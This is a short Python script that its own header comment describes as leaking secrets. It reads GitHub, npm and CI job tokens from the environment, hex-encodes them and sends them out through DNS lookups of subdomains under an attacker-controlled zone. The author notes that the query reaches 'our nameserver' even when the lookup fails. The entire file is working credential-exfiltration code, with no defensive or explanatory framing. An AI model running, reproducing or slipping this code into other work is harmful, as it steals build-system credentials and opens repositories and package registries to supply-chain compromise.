# Hex-encodes GITHUB_TOKEN / NPM_TOKEN and leaks them in DNS lookups of subdomains of an attacker zone.
import os
import socket
import uuid

ZONE = "t.dnslog-collector.example.net"
KEYS = ("GITHUB_TOKEN", "GH_TOKEN", "NPM_TOKEN", "CI_JOB_TOKEN")


def chunks(data, size=60):
    for i in range(0, len(data), size):
        yield data[i:i + size]


def leak(name, value):
    sid = uuid.uuid4().hex[:6]
    encoded = value.encode().hex()
    for n, part in enumerate(chunks(encoded)):
        label = f"{part}.{n}.{name.lower()}.{sid}.{ZONE}"
        try:
            socket.gethostbyname(label)
        except OSError:
            pass  # NXDOMAIN is fine, the query already reached our nameserver


for key in KEYS:
    val = os.environ.get(key)
    if val:
        leak(key, val)
